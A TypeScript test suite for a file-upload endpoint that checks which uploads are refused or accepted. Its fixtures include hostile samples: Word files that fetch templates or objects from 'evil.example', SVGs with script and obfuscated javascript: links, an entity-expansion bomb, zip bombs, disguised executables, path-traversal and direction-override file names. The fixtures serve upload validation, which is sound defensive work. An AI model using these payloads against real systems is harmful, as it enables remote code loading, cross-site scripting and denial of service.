import { readdir } from 'node:fs/promises';
import { connect } from 'node:net';
import { join } from 'node:path';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { dataOf } from '../../core/testing/answers.ts';
import { serveWorld } from '../../core/testing/live-server.ts';
import { makeWorld, type World } from '../../core/testing/world.ts';
import { open } from '../../subject/testing/things.ts';
import { makeCalendar, makeEvent } from '../calendar/testing/wheels.ts';
import { formOf, type Sent, upload } from './testing/upload.ts';
import { wordOf, zipOf } from './testing/zip.ts';

let world: World;
let instance: string;
beforeAll(async () => {
  world = await makeWorld();
  const wheel = await makeCalendar(world, world.kari, open);
  instance = (await makeEvent(world, world.kari, wheel)).instances.nodes[0]!.id;
});
afterAll(() => world.close());

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const send = async (file: Sent) => {
  const { status, body } = await upload(world, world.kari, instance, file);
  return body.code ? [status, body.code, body.field] : [status, body.name];
};
const pdf = (bytes: number) => {
  const content = new Uint8Array(bytes).fill(32);
  content.set(new TextEncoder().encode('%PDF-1.7\n'));
  return { name: 'Sak.pdf', type: 'application/pdf', content };
};
const svg = (inner: string) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">${inner}</svg>`;
const oldWord = (words: string) => {
  const content = new Uint8Array(2_048);
  content.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  content.set(new Uint8Array(Buffer.from(words, 'utf16le')), 1_024);
  return { name: 'Gammalt.doc', type: 'application/msword', content };
};

const withRelations = (content: string): Sent => ({
  name: 'Skjema.docx',
  content: wordOf([{ name: 'word/_rels/settings.xml.rels', content }]),
});
const relating = (kind: string, target: string, more = '') => {
  const type = `http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}`;
  return withRelations(
    `<Relationships><Relationship ${more || 'Id="rId1"'} Type="${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  );
};

const incomingOf = () => readdir(join(world.services.settings.dataDir, 'files', 'incoming')).catch(() => []);
async function left() {
  const { files } = dataOf(
    await world.graphql<{ files: object[] }>(world.kari, `{ files(meta: "${instance}") { id } }`),
  );
  let stored = 0;
  for await (const _one of world.services.storage.list()) stored += 1;
  return { files: files.length, stored, incoming: (await incomingOf()).length };
}

describe('refused, with nothing left of it', () => {
  afterAll(async () => expect(await left()).toEqual({ files: 0, stored: 0, incoming: 0 }));

  it('20,000,001 bytes', async () => {
    expect(await send(pdf(20_000_001))).toEqual([413, 'file.tooLarge', 'file']);
  });

  it.each<[string, Sent, string]>([
    ['nothing', { name: 'Tom.txt', content: '' }, 'file.empty'],
    ['a program', { name: 'spel.exe', content: 'MZ' }, 'file.notAccepted'],
    ['a page', { name: 'side.html', type: 'text/html', content: '<p>' }, 'file.notAccepted'],
    ['a file without an ending', { name: 'README', content: 'Les' }, 'file.notAccepted'],
    [
      'a program with the name of a document',
      { name: 'Budsjett.pdf', type: 'application/pdf', content: 'MZ\x90\0\x03\0' },
      'file.mismatch',
    ],
    [
      'a program with the name of a text',
      { name: 'Budsjett.txt', type: 'text/plain', content: 'MZ\x90\0\x03\0' },
      'file.mismatch',
    ],
    ['a PDF with the name of a text', { name: 'Sak.txt', content: '%PDF-1.7\n1 0 obj' }, 'file.mismatch'],
    ['a page with the name of a text', { name: 'Sak.txt', content: '<!doctype html><p>Hei' }, 'file.mismatch'],
    ['a drawing with the name of a text', { name: 'Kart.txt', content: svg('<path d="M0 0"/>') }, 'file.mismatch'],
    ['a program with the name of a table', { name: 'Tal.csv', content: 'MZ\x90\0\x03\0' }, 'file.notAccepted'],
    [
      'a packed file with the name of a document of Word',
      { name: 'Skjema.docx', type: word, content: zipOf([{ name: 'Les meg.txt', content: 'Hei' }]) },
      'file.mismatch',
    ],
    ['an old table with the name of an old document', { ...oldWord('Workbook'), name: 'Skjema.doc' }, 'file.mismatch'],
    [
      'an old document with the name of a presentation',
      { ...oldWord('WordDocument'), name: 'Vis.ppt' },
      'file.mismatch',
    ],
    ['an installer with the name of an old table', { ...oldWord('MsiProperties'), name: 'Tal.xls' }, 'file.mismatch'],
    [
      'an old document that is locked, in a new container',
      { ...oldWord('EncryptedPackage'), name: 'Tal.xls' },
      'file.password',
    ],
    ['a text with the name of a picture', { name: 'Bilete.png', type: 'image/png', content: 'Hei' }, 'file.mismatch'],
    ['a PDF whose mark comes too late', { name: 'Sak.pdf', content: `${' '.repeat(1_020)}%PDF-1.7` }, 'file.mismatch'],
    ['a name that is an ending alone', { name: '.pdf', content: '%PDF-1.7' }, 'input.required'],
    [
      'a document of Word that is locked with a password',
      { ...oldWord('EncryptedPackage'), name: 'Skjema.docx', type: word },
      'file.password',
    ],
    [
      'an old document under the name of a new one',
      { ...oldWord('WordDocument'), name: 'Skjema.docx' },
      'file.mismatch',
    ],
    [
      'a document of Word that loads its template from an address',
      relating('attachedTemplate', 'https://evil.example/x.dotm'),
      'file.fetches',
    ],
    [
      'a document of Word that loads an object from an address, written in a roundabout way',
      relating('oleObject', 'mhtml&#58;http://evil.example/x', "Id='>'"),
      'file.fetches',
    ],
    [
      'a document of Word with relations that nest without end',
      withRelations('<a>'.repeat(1_000_000)),
      'file.mismatch',
    ],
    [
      'a document of Word with an object in it',
      { name: 'Skjema.docx', content: wordOf([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]) },
      'file.embedded',
    ],
    [
      'a document of Word with a table of Excel with macros in it',
      { name: 'Skjema.docx', content: wordOf([{ name: 'word/embeddings/Tal.xlsm', content: 'x' }]) },
      'file.macros',
    ],
    [
      'half a picture',
      {
        name: 'Bilete.png',
        type: 'image/png',
        content: new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]),
      },
      'file.mismatch',
    ],
    [
      'a drawing with a script',
      { name: 'Kart.svg', type: 'image/svg+xml', content: svg('<script>alert(1)</script>') },
      'file.script',
    ],
    [
      'a drawing that does something when it is shown',
      { name: 'Kart.svg', type: 'image/svg+xml', content: svg('<g onload="alert(1)"/>') },
      'file.script',
    ],
    [
      'a drawing with a link to a program',
      { name: 'Kart.svg', type: 'image/svg+xml', content: svg('<a href=" java&#10;script:alert(1)"/>') },
      'file.script',
    ],
    [
      'a drawing that grows without end',
      { name: 'Kart.svg', type: 'image/svg+xml', content: `<!DOCTYPE svg [<!ENTITY a "lol">]>${svg('&a;')}` },
      'file.mismatch',
    ],
    [
      'a page with the name of a drawing',
      { name: 'Kart.svg', type: 'image/svg+xml', content: '<html><body/></html>' },
      'file.mismatch',
    ],
    [
      'a document of Word with macros',
      { name: 'Skjema.docx', type: word, content: wordOf([{ name: 'word/vbaProject.bin', content: 'x' }]) },
      'file.macros',
    ],
    [
      'a document with macros under the name of one without',
      {
        name: 'Skjema.docx',
        type: word,
        content: wordOf([], 'application/vnd.ms-word.document.macroEnabled.main+xml'),
      },
      'file.macros',
    ],
    [
      'a document of Excel under the name of one of Word',
      {
        name: 'Skjema.docx',
        type: word,
        content: wordOf([], 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'),
      },
      'file.mismatch',
    ],
    ['an old document with macros', oldWord('WordDocument\0_VBA_PROJECT_CUR'), 'file.macros'],
    [
      'a packed file that unpacks to far too much',
      {
        name: 'Skjema.docx',
        type: word,
        content: wordOf([{ name: 'word/media.bin', content: 'x', claims: 3_000_000_000 }]),
      },
      'file.packed',
    ],
    [
      'a packed file of zeros',
      {
        name: 'Skjema.docx',
        type: word,
        content: wordOf([{ name: 'word/media.bin', content: Buffer.alloc(30_000_000) }]),
      },
      'file.packed',
    ],
    [
      'something else with the name of a packed file',
      { name: 'Skjema.docx', type: word, content: 'PK\x03\x04 og so ikkje meir' },
      'file.mismatch',
    ],
    ['a name that is nothing but marks of direction', { name: '\u202e\u200b', content: 'Hei' }, 'input.required'],
    ['a name of 300 characters', { name: `${'x'.repeat(296)}.txt`, content: 'Hei' }, 'input.tooLong'],
  ])('%s', async (_what, file, code) => {
    expect((await send(file)).slice(1)).toEqual([code, 'file']);
  });

  it('an upload that is lost at 90 %', async () => {
    const server = await serveWorld(world);
    const { type, bytes } = await formOf({ type: 'EVENT_INSTANCE', metaid: instance }, pdf(10_000_000));
    const { port } = new URL(server.url);
    const head = `POST /api/file/upload HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${world.kari.token}\r\nContent-Type: ${type}\r\nContent-Length: ${bytes.length}\r\n\r\n`;
    const socket = connect(Number(port), '127.0.0.1');
    socket.write(head);
    await new Promise<void>((sent) => socket.write(bytes.subarray(0, 9_000_000), () => sent()));
    await expect.poll(async () => (await incomingOf()).length).toBe(1);
    socket.destroy();
    await expect.poll(async () => (await incomingOf()).length).toBe(0);
    await server.close();
  });
});

describe('taken', () => {
  it('20,000,000 bytes', async () => {
    expect(await send(pdf(20_000_000))).toEqual([200, 'Sak.pdf']);
  });

  it.each<[string, Sent, string]>([
    ['a document of Word', { name: 'Skjema.docx', type: word, content: wordOf() }, 'Skjema.docx'],
    ['an old document', oldWord('WordDocument'), 'Gammalt.doc'],
    ['an old table', { ...oldWord('Workbook'), name: 'Tal.xls' }, 'Tal.xls'],
    ['a table of before 1997', { ...oldWord('Book'), name: 'Tal.xls' }, 'Tal.xls'],
    ['an old presentation', { ...oldWord('PowerPoint Document'), name: 'Vis.ppt' }, 'Vis.ppt'],
    ['a drawing', { name: 'Kart.svg', type: 'image/svg+xml', content: svg('<path d="M0 0"/>') }, 'Kart.svg'],
    [
      'a type that the browser does not know',
      { name: 'Notat.TXT', type: 'application/octet-stream', content: 'Hei' },
      'Notat.TXT',
    ],
    [
      'an old text',
      { name: 'Notat.txt', type: 'text/plain', content: new Uint8Array([0xe6, 0xf8, 0xe5, 0x0d, 0x0a]) },
      'Notat.txt',
    ],
    [
      'a text that begins like a picture',
      { name: 'Notat.txt', type: 'text/plain', content: 'BM i kommunen' },
      'Notat.txt',
    ],
    [
      'a text of Windows',
      { name: 'Notat.txt', type: 'text/plain', content: new Uint8Array(Buffer.from('\ufeffÅrshjul', 'utf16le')) },
      'Notat.txt',
    ],
    ...['application/wps-office.docx', 'application/vnd.ms-office', 'application/zip', 'text/plain'].map(
      (type): [string, Sent, string] => [
        `a document of Word that is declared as ${type}`,
        { name: 'Sak.docx', type, content: wordOf() },
        'Sak.docx',
      ],
    ),
    ['a PDF after a line break', { name: 'Sak.pdf', content: '\r\n%PDF-1.4\n' }, 'Sak.pdf'],
    ['a name with quotes', { name: 'Møte "vår".txt', content: 'Hei' }, 'Møte _vår_.txt'],
    ['a name with a share', { name: '50%22.txt', content: 'Hei' }, '50%22.txt'],
    [
      'a document of Word with a template on a drive',
      relating('attachedTemplate', 'file:///M:\\maler\\Brev.dotx'),
      'Skjema.docx',
    ],
    ['a document of Word with a link', relating('hyperlink', 'https://www.ks.no'), 'Skjema.docx'],
    ['a name with folders', { name: '..\\..\\etc/Rutine.txt', content: 'Hei' }, 'Rutine.txt'],
    ['a name that is turned around', { name: 'Løn\u202etxt.exe.txt', content: 'Hei' }, 'Løntxt.exe.txt'],
    ['a name that is written in two ways', { name: 'A\u030arsmelding.txt', content: 'Hei' }, 'Årsmelding.txt'],
  ])('%s', async (_what, file, name) => {
    expect(await send(file)).toEqual([200, name]);
  });

  it('a picture, of which a small one is drawn anew, without what the camera wrote', async () => {
    const taken = await sharp({ create: { width: 1_200, height: 600, channels: 3, background: '#1f6f8b' } })
      .withExif({ IFD0: { Artist: 'Kari Nes' } })
      .jpeg()
      .toBuffer();
    expect(taken.includes('Kari Nes')).toBe(true);
    const { body } = await upload(world, world.kari, instance, {
      name: 'Bilete.jpg',
      type: 'image/jpeg',
      content: new Uint8Array(taken),
    });
    const answer = await world.app.inject({
      url: `/api/file/small/${body.id}`,
      headers: { authorization: `Bearer ${world.ola.token}` },
    });
    const { width, height, format, exif } = await sharp(answer.rawPayload).metadata();
    expect({ width, height, format, exif }).toEqual({ width: 480, height: 240, format: 'webp', exif: undefined });
    expect(answer.headers).toMatchObject({
      'content-type': 'image/webp',
      'content-security-policy': "default-src 'none'; sandbox",
    });
    const whole = await world.app.inject({
      url: `/api/file/stream/${body.id}`,
      headers: { authorization: `Bearer ${world.ola.token}` },
    });
    expect(whole.rawPayload.equals(taken)).toBe(true);
  });

  it('100 files on one activity, and no more', async () => {
    const wheel = await makeCalendar(world, world.kari, open);
    const full = (await makeEvent(world, world.kari, wheel)).instances.nodes[0]!.id;
    for (let count = 0; count < 100; count += 1) expect((await upload(world, world.kari, full)).status).toBe(200);
    expect((await upload(world, world.kari, full)).body).toMatchObject({ code: 'file.tooMany', field: 'file' });
  });
});
